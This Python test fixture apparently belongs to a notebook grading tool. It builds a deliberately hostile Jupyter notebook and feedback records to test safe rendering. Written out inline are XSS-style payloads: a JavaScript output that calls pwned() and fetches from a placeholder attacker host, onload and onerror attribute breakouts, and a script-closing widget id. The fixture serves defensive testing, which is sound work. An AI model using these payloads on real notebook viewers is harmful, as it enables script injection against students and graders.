"""A graded notebook and its feedback, full of everything that would do something where it is shown without care."""

from __future__ import annotations

from datetime import UTC, datetime

from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output, new_raw_cell

from plnb.core.course import Activity, Check, Course, Unit
from plnb.core.marks import CellMark, NotebookMarks
from plnb.core.records import Attempt, Verdict
from plnb.reports.handed_back import HandedBack
from tests.hostile.payloads import EVIL, MARKDOWN, MARKUP

NOW = datetime(2026, 3, 20, 15, 30, tzinfo=UTC)
TEXTS = (*MARKUP.values(), *MARKDOWN.values())
PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
MASTER = new_notebook(
    cells=[new_markdown_cell("# Speed", id="title")],
    metadata={"kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"}},
)


def key(grade_id: str, **flags: object) -> dict[str, object]:
    return {
        "nbgrader": {
            "schema_version": 3,
            "grade_id": grade_id,
            "grade": False,
            "solution": False,
            "locked": False,
            "task": False,
            **flags,
        }
    }


def hostile_notebook() -> NotebookNode:
    """As it would lie there had nobody taken care."""
    cells = [new_markdown_cell("# Speed", id="title")]
    for number, text in enumerate(TEXTS):
        outputs = [
            new_output("display_data", {"text/html": text, "text/plain": text}),
            new_output("display_data", {"text/markdown": text}),
            new_output("display_data", {"text/latex": text}),
            new_output("stream", text=text),
            new_output("error", ename=text, evalue=text, traceback=[text, "\x1b[31m" + text]),
        ]
        cells += [
            new_markdown_cell(text, id=f"m{number}"),
            new_raw_cell(text, id=f"r{number}"),
            new_code_cell(text, id=f"c{number}", outputs=outputs),
        ]
    rich = [
        new_output("display_data", {"application/javascript": f"pwned(); fetch('{EVIL}/js')"}),
        new_output("display_data", {"image/svg+xml": MARKUP["script-in-svg"]}),
        new_output(
            "display_data", {"image/png": PNG}, metadata={"image/png": {"width": "1 onload=pwned()", "alt": '" onload="pwned()'}}
        ),
        new_output("display_data", {"image/png": f'{PNG}" onload="pwned()'}),
        new_output("display_data", {"text/html": MARKUP["script"]}, metadata={"text/html": {"isolated": True}}),
        new_output("display_data", {"application/vnd.jupyter.widget-view+json": {"model_id": "</script><script>pwned()</script>"}}),
        new_output("execute_result", {"text/html": "<table class='dataframe'><tr><td>honest</td></tr></table>"}, execution_count=1),
    ]
    cells.append(new_code_cell("rich()", id="rich", outputs=rich))
    essay = new_markdown_cell(
        "![a](attachment:a.svg) ![b](attachment:gone.png) " + "\n\n".join(TEXTS),
        id="essay",
        metadata=key("why", solution=True, grade=True, points=3),
    )
    essay.attachments = {"a.svg": {"image/svg+xml": "PHN2Zy8+"}, "x": {'text/html"onerror="pwned()': "eA=="}}
    check = new_code_cell("assert speed(1, 2) == 2", id="check", metadata=key("speed", grade=True, locked=True, points=2))
    check.outputs = [new_output("error", ename="AssertionError", evalue=MARKUP["script"], traceback=[MARKUP["script"]])]
    notebook = new_notebook(cells=[*cells, check, essay], metadata=dict(MASTER.metadata))
    notebook.metadata["widgets"] = {
        "application/vnd.jupyter.widget-state+json": {"state": {"x": MARKUP["script"]}, "version_major": 2}
    }
    return notebook


def course(title: str = "Straight lines", check: str = "Speed", hint: str = "Divide.") -> Course:
    checks = (
        Check(id="speed", title=check, points=2, answers=("answer",), hints=(hint, "The second hint.")),
        Check(id="why", title="Why", points=3, manual=True, answers=("why",)),
    )
    activity = Activity(id="rates", unit="u1", title=title, checks=checks)
    return Course(id="lines", title=title, units=(Unit(id="u1", title=title, nodes=(activity,)),))


def attempt(check: str, verdict: Verdict, student: str = "mallory", **more: object) -> Attempt:
    fields = {
        "id": f"{student}-{check}-{more.get('attempt', 1)}",
        "course": "lines",
        "student": student,
        "at": NOW,
        "trust": "graded",
    }
    fields |= {"unit": "u1", "activity": "rates", "check": check, "verdict": verdict, "points": 0.0, "max_points": 2.0}
    return Attempt.model_validate({**fields, **more})


def hostile_feedback(notebook: NotebookNode | None = None) -> tuple[Course, HandedBack]:
    """Everything a student or a grader can write, written by the enemy."""
    everything = "\n".join(TEXTS)
    marks = NotebookMarks(
        points=1,
        most=5,
        late=0.5,
        cells={"speed": CellMark(points=0, most=2, comment=everything), "why": CellMark(most=3, waits=True, comment=everything)},
    )
    records = (attempt("speed", Verdict.failed, message=everything, comment=everything), attempt("why", Verdict.waiting))
    back = HandedBack("mallory", "u1", "rates", notebook or hostile_notebook(), marks, records, NOW)
    return course(everything, everything, everything), back
